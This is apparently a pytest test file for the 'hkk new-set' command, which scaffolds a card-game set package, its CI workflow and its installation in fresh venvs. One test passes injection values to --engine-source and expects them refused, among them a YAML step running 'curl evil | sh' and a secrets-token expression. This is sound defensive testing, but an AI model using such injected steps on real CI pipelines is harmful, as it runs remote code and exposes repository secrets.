"""hkk new-set: the scaffolded project, and that it installs, tests and verifies green."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import sysconfig
import tomllib
from pathlib import Path

import pytest

from hkk._cards.loader import load_set_cards, load_set_decks
from hkk._scaffold import ScaffoldError, create, placeholders
from hkk._sets.manifest import parse_manifest


def test_the_project_has_every_part(tmp_path):
    project = create("zold", tmp_path)
    assert project == tmp_path / "hkk-set-zold"
    files = {str(p.relative_to(project)) for p in project.rglob("*") if p.is_file()}
    assert files == {
        "pyproject.toml", "README.md", "LICENSE", ".gitignore", ".github/workflows/ci.yml",
        "src/hkk_set_zold/__init__.py", "src/hkk_set_zold/set.toml",
        "src/hkk_set_zold/cards/cards.toml", "src/hkk_set_zold/decks/kezdo.toml",
        "tests/test_cards.py",
    }
    assert not any("{{" in p.read_text() for p in project.rglob("*") if p.is_file()
                   and p.name != "ci.yml")


def test_pyproject_manifest_cards_and_deck_are_valid(tmp_path):
    project = create("zold", tmp_path, title="Zöld erdő")
    pyproject = tomllib.loads((project / "pyproject.toml").read_text())
    assert pyproject["project"]["name"] == "hkk-set-zold"
    assert pyproject["project"]["entry-points"]["hkk.sets"] == {"zold": "hkk_set_zold"}
    assert pyproject["project"]["dependencies"] == [f"hkk{placeholders('zold')['engine_requirement']}"]
    assert pyproject["tool"]["pytest"]["ini_options"]["hkk_verify"] == ["zold"]
    package = project / "src" / "hkk_set_zold"
    manifest = parse_manifest((package / "set.toml").read_text())
    assert (manifest.code, manifest.name) == ("zold", "Zöld erdő")
    cards = load_set_cards("zold", package)
    decks = load_set_decks("zold", package, {c.id for c in cards})
    assert len(cards) == 6 and decks["kezdo"].size == 30
    compile((package / "__init__.py").read_text(), "__init__.py", "exec")


def test_ci_workflow_runs_verify_and_the_tests(tmp_path):
    ci = (create("zold", tmp_path) / ".github" / "workflows" / "ci.yml").read_text()
    assert "hkk verify zold" in ci and "python -m pytest" in ci
    assert "${{ matrix.python-version }}" in ci  # GitHub's own expressions are left alone


def test_bad_code_and_non_empty_folder_are_refused(tmp_path):
    with pytest.raises(ScaffoldError, match="invalid set code"):
        create("Zold", tmp_path)
    create("zold", tmp_path)
    with pytest.raises(ScaffoldError, match="not empty"):
        create("zold", tmp_path)


@pytest.mark.slow
def test_scaffolded_set_installs_and_its_tests_and_verify_pass(tmp_path):
    """pip install -e (no deps: the engine and pytest-hkk are here already), then the project's
    own pytest run and ``hkk verify``.  About 6 s, so not marked slow.  The set goes into a venv
    of its own that sees this one's packages (a .pth), not into this one: tests running beside
    this one (pytest -n) would otherwise find a set come and go."""
    code = "ujkeszlet"
    project = create(code, tmp_path)
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True,
                   timeout=300)
    python = str(venv / "bin" / "python")
    pip = [sys.executable, "-m", "pip", "--python", python]
    env = {**os.environ, "NO_COLOR": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    # Only the new set: whatever state the other installed sets are in is not this test's.
    run_env = {**env, "HKK_SETS_ALLOW": code}
    install = subprocess.run(check=False, args=[*pip, "install", "--no-deps", "-q", "-e",
                              str(project)], capture_output=True, text=True, env=env,
                             timeout=300)
    assert install.returncode == 0, install.stderr
    # the engine, pytest and pytest-hkk: this venv's (after the install, whose build needs a
    # setuptools of its own)
    own_site = subprocess.run([python, "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
                              check=True, capture_output=True, text=True).stdout.strip()
    Path(own_site, "_outer.pth").write_text(
        f"import site; site.addsitedir({sysconfig.get_path('purelib')!r})\n")
    tests = subprocess.run(check=False, args=[python, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                            "--hkk-verify-games", "2"], cwd=project, capture_output=True,
                           text=True, env=run_env, timeout=300)
    assert tests.returncode == 0, tests.stdout + tests.stderr
    assert "passed" in tests.stdout
    verify = subprocess.run(check=False, args=[python, "-m", "hkk.cli", "verify", code, "--games", "2"],
                            cwd=project, capture_output=True, text=True, env=run_env, timeout=300)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    assert f"✓ games [{code}]" in verify.stdout


# -- issue 13: a workflow that runs before the engine is on an index; a name that can load ----

def test_workflow_installs_the_engine_from_one_place_and_keeps_verify_xml(tmp_path):
    import yaml

    project = create("zold", tmp_path, source="/src/hkk")
    flow = yaml.safe_load((project / ".github" / "workflows" / "ci.yml").read_text())
    assert flow["env"]["HKK_SOURCE"] == "/src/hkk"
    job = flow["jobs"]["verify"]
    assert job["strategy"]["matrix"]["python-version"] == ["3.11", "3.12", "3.13"]
    steps = job["steps"]
    runs = [s.get("run", "") for s in steps]
    engine = next(i for i, r in enumerate(runs) if "HKK_SOURCE" in r)
    the_set = next(i for i, r in enumerate(runs) if "install -e '.[test]'" in r)
    assert engine < the_set  # the engine first: the set's `hkk>=…` is then satisfied
    assert any("--junit-xml verify.xml" in r and "--output-format github" in r for r in runs)
    upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-artifact"))
    assert upload["with"]["path"] == "verify.xml" and upload["if"] == "always()"


def test_engine_source_defaults_to_where_this_engine_came_from(tmp_path):
    from hkk._scaffold import engine_source

    here = engine_source()
    assert here == "" or here.startswith("git+")
    assert placeholders("zold")["engine_source"] == json.dumps(here)


def test_the_default_workflow_holds_no_path_of_this_machine(tmp_path):
    import yaml

    from hkk._scaffold import local_engine_folder

    project = create("helyi", tmp_path)
    text = (project / ".github" / "workflows" / "ci.yml").read_text()
    source = yaml.safe_load(text)["env"]["HKK_SOURCE"]
    assert source == "" or source.startswith("git+")
    local = local_engine_folder()
    if local:  # this checkout is installed editable (as the README's commands do)
        assert local not in text and str(Path(__file__).resolve().parents[1]) not in text


@pytest.mark.parametrize("source", ['x"\n  - run: curl evil | sh\n  X: "',
                                    "${{ secrets.TOKEN }}", "a\x1b[2Jb", "--index-url=http://x"])
def test_an_engine_source_that_would_inject_a_step_is_refused(tmp_path, source):
    from click.testing import CliRunner

    from hkk.cli import main

    with pytest.raises(ScaffoldError, match="--engine-source"):
        create("bevitel", tmp_path, source=source)
    result = CliRunner().invoke(main, ["new-set", "bevitel", "--dir", str(tmp_path),
                                       "--engine-source", source])
    assert result.exit_code == 2 and "--engine-source" in result.output
    assert not (tmp_path / "hkk-set-bevitel").exists()


def test_quotes_and_backslashes_in_an_engine_source_stay_text(tmp_path):
    import yaml

    source = 'C:\\hkk "forras"'
    project = create("idezet", tmp_path, source=source)
    flow = yaml.safe_load((project / ".github" / "workflows" / "ci.yml").read_text())
    assert flow["env"] == {"HKK_SOURCE": source}
    assert [s.get("name") for s in flow["jobs"]["verify"]["steps"]][-1] == "Keep the verify report"


def test_an_installed_set_code_is_refused(tmp_path):
    from click.testing import CliRunner

    from hkk.cli import main

    with pytest.raises(ScaffoldError, match="'alap' is taken"):
        create("alap", tmp_path, installed=frozenset({"alap"}))
    result = CliRunner().invoke(main, ["new-set", "alap", "--dir", str(tmp_path)])
    assert result.exit_code == 2 and "taken" in result.output
    assert not (tmp_path / "hkk-set-alap").exists()
    result = CliRunner().invoke(main, ["new-set", "friss", "--dir", str(tmp_path)])
    assert result.exit_code == 0
    assert f"pip install -e '{tmp_path / 'hkk-set-friss'}[test]'" in result.output


def test_help_lines_are_not_cut():
    from click.testing import CliRunner

    from hkk.cli import main

    result = CliRunner().invoke(main, ["--help"], terminal_width=80)
    lines = result.output.split("Commands:")[1].splitlines()
    for name, command in main.commands.items():
        # the whole short help, or whole sentences of the docstring's first paragraph (click
        # cuts at the first ".", even the one of "e.g.", or at the width)
        whole = command.short_help or " ".join((command.help or "").split("\n\n")[0].split())
        line = next(line for line in lines if line.split()[:1] == [name])
        shown = line.split(None, 1)[1].strip()
        assert whole.startswith(shown), (name, shown)
        rest = whole[len(shown):]
        assert rest == "" or (shown.endswith(".") and rest[:1] == " " and rest[1:2].isupper()), \
            (name, shown, rest)


@pytest.mark.slow  # a fresh venv with every dependency
def test_generated_workflow_steps_pass_with_the_engine_from_a_path(tmp_path):
    """The workflow's `run` steps, in order, in a fresh venv, with HKK_SOURCE = a copy of this
    checkout (what an author's CI does with a path or git URL before hkk is on an index)."""
    import yaml
    from test_packaging import source_copy

    root = source_copy(tmp_path)  # pip builds in the tree it installs from
    code = "utvonal"
    project = create(code, tmp_path, source=str(root))
    flow = yaml.safe_load((project / ".github" / "workflows" / "ci.yml").read_text())
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=300)
    env = {**os.environ, **flow["env"], "PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}",
           "VIRTUAL_ENV": str(venv), "NO_COLOR": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1",
           "HKK_SETS_ALLOW": code}
    env.pop("PYTHONPATH", None)
    for step in flow["jobs"]["verify"]["steps"]:
        if "run" not in step:
            continue  # checkout, setup-python, upload: GitHub's actions
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], cwd=project,
                              env=env, capture_output=True, text=True, timeout=900)
        assert done.returncode == 0, (step["name"], done.stdout[-3000:], done.stderr[-3000:])
    assert (project / "verify.xml").is_file()


# -- the next step hkk new-set prints: pytest-hkk is on no package index ------------------------

def _without_pytest_hkk(monkeypatch):
    import importlib_metadata

    real = importlib_metadata.distribution

    def distribution(name):
        if name == "pytest-hkk":
            raise importlib_metadata.PackageNotFoundError(name)
        return real(name)
    monkeypatch.setattr(importlib_metadata, "distribution", distribution)


def test_new_sets_next_step_installs_pytest_hkk_from_where_the_engine_came(tmp_path,
                                                                          monkeypatch):
    from hkk import _scaffold
    from hkk._scaffold import install_command

    project = tmp_path / "hkk-set-uj"
    target = f"'{project}[test]'"
    assert install_command(project) == f"pip install -e {target}"  # installed here: as it is
    _without_pytest_hkk(monkeypatch)
    checkout = tmp_path / "hkk"
    (checkout / "plugins" / "pytest-hkk").mkdir(parents=True)
    (checkout / "plugins" / "pytest-hkk" / "pyproject.toml").write_text("")
    monkeypatch.setattr(_scaffold, "local_engine_folder", lambda: str(checkout))
    assert install_command(project) == \
        f"pip install -e {checkout / 'plugins' / 'pytest-hkk'} -e {target}"
    monkeypatch.setattr(_scaffold, "local_engine_folder", lambda: None)
    monkeypatch.setattr(_scaffold, "engine_source", lambda: "git+https://example.org/hkk@v1")
    assert install_command(project) == ("pip install 'pytest-hkk @ git+https://example.org/hkk"
                                        f"@v1#subdirectory=plugins/pytest-hkk' -e {target}")
    monkeypatch.setattr(_scaffold, "engine_source", lambda: "")
    assert install_command(project).startswith(
        f"pip install -e HKK-CHECKOUT/plugins/pytest-hkk -e {target}")


def _setuptools_wheel(folder: Path) -> None:
    """A setuptools the projects' builds accept (>=77) in ``folder``, for the offline
    installs below: the one build requirement nothing here ships."""
    got = subprocess.run([sys.executable, "-m", "pip", "download", "-q", "--no-deps",
                          "--only-binary", ":all:", "-d", str(folder), "setuptools>=77"],
                         capture_output=True, text=True, timeout=300, check=False)
    if got.returncode != 0:
        pytest.skip(f"no setuptools>=77 wheel to build with: {got.stderr[-300:]}")


@pytest.mark.slow  # a fresh venv, three editable builds: about 30 s
def test_new_sets_next_step_works_in_a_fresh_venv_with_the_engine_from_a_checkout(tmp_path):
    """An author with hkk installed from a checkout - and no pytest-hkk - runs the step `hkk
    new-set` prints, offline (--no-index: pytest-hkk from the checkout), then the project's
    tests: they pass without a DeprecationWarning."""
    from test_packaging import _fresh_venv_seeing_third_party, source_copy

    checkout = source_copy(tmp_path)  # builds write into their source tree
    wheels = tmp_path / "wheels"
    _setuptools_wheel(wheels)
    venv = _fresh_venv_seeing_third_party(tmp_path)
    offline = ["--no-index", "--find-links", str(wheels)]
    env = {key: value for key, value in os.environ.items()
           if not key.startswith(("HKK_", "PIP_")) and key != "PYTHONPATH"}
    env.update(NO_COLOR="1", PIP_DISABLE_PIP_VERSION_CHECK="1", COLUMNS="200")
    pip = [sys.executable, "-m", "pip", "--python", str(venv / "bin" / "python")]
    engine = subprocess.run([*pip, "install", "-q", "--no-deps", *offline, "-e", str(checkout)],
                            capture_output=True, text=True, env=env, timeout=600, check=False)
    assert engine.returncode == 0, engine.stderr
    made = subprocess.run([str(venv / "bin" / "hkk"), "new-set", "frissen", "--dir",
                           str(tmp_path)], capture_output=True, text=True, env=env,
                          cwd=tmp_path, timeout=300, check=False)
    assert made.returncode == 0, made.stderr
    lines = made.stdout.splitlines()
    step = shlex.split(lines[lines.index("next:") + 1])
    assert step[:2] == ["pip", "install"] and "plugins/pytest-hkk" in " ".join(step)
    installed = subprocess.run([*pip, *step[1:], *offline], capture_output=True, text=True,
                               env=env, timeout=600, check=False)
    assert installed.returncode == 0, installed.stderr
    project = tmp_path / "hkk-set-frissen"
    tests = subprocess.run([str(venv / "bin" / "python"), "-m", "pytest", "-q", "-p",
                            "no:cacheprovider", "--hkk-verify-games", "1"], cwd=project,
                           capture_output=True, text=True,
                           env={**env, "HKK_SETS_ALLOW": "frissen"}, timeout=600, check=False)
    assert tests.returncode == 0, tests.stdout[-3000:] + tests.stderr[-2000:]
    assert "passed" in tests.stdout and "DeprecationWarning" not in tests.stdout
